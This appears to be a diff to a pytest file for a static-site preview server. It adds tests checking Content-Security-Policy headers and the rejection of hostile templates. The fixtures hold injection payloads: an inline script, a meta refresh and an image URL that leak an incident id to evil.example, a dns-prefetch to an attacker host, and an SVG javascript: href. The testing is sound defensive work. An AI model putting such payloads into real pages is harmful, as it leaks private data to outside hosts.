@@ -1,6 +1,8 @@
 """The preview shows the site on this computer, reports mistakes, and follows the files and the clock."""
 
+import html
 import os
+import re
 import signal
 import socket
 import subprocess
@@ -274,8 +276,41 @@ def test_no_other_site_may_read_or_frame_any_of_it(preview: RunningPreview) -> N
         assert headers["Cross-Origin-Resource-Policy"] == "same-origin"
         assert headers["Access-Control-Allow-Origin"] is None
         assert headers.get_all("Content-Security-Policy")
-    assert preview.ask("/")[1]["Content-Security-Policy"] == "frame-ancestors 'self'"
+    assert "frame-ancestors 'self'" in preview.ask("/")[1]["Content-Security-Policy"]
     assert "frame-ancestors 'none'" in preview.ask("/~preview/")[1]["Content-Security-Policy"]
+
+
+def test_every_file_comes_with_the_policy_of_published_pages(preview: RunningPreview) -> None:
+    """What a page says of itself can be taken out by a template."""
+    own = re.search(r'Content-Security-Policy" content="([^"]+)"', preview.ask("/")[2].decode())
+    assert own
+    for address in ("/", "/status.json", "/feed.xml", "/badge.svg", PAGE, "/nothing"):
+        (policy,) = preview.ask(address)[1].get_all("Content-Security-Policy") or []
+        given = dict(rule.split(" ", 1) for rule in policy.split("; "))
+        asked = dict(rule.split(" ", 1) for rule in html.unescape(own[1]).split("; "))
+        assert set(asked.pop("style-src").split()) <= set(given.pop("style-src").split())
+        assert given == asked | {"frame-ancestors": "'self'"}
+
+
+@pytest.mark.parametrize(
+    ("template", "words"),
+    [
+        ("<script>fetch('/~preview/news')</script>", "There is a script in the page"),
+        ('<meta http-equiv="refresh" content="0;url=https://evil.example/{{ board.incidents[0].id }}">', "redirect"),
+        ('<link rel="dns-prefetch" href="https://secret.evil.example/">', "not part of this site"),
+        ('<img alt="" src="https://evil.example/?{{ board.incidents[0].id }}">', "not part of this site"),
+        ("<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>", "animate"),
+    ],
+)
+def test_a_colleague_s_template_cannot_read_drafts(writer: Writer, template: str, words: str) -> None:
+    """The page is not shown, so that a pull request can be looked at safely."""
+    base = '{% extends "theme/base.html" %}{% block head %}{{ super() }}' + template + "{% endblock %}"
+    writer.save("templates/base.html", base)
+    with run_preview(writer) as preview:
+        status, _, content = preview.ask(PAGE)
+    assert status == 500
+    assert words in html.unescape(content.decode())
+    assert "evil.example/post" not in content.decode()
 
 
 @pytest.mark.parametrize("method", ["POST", "PUT", "DELETE", "PATCH", "OPTIONS"])
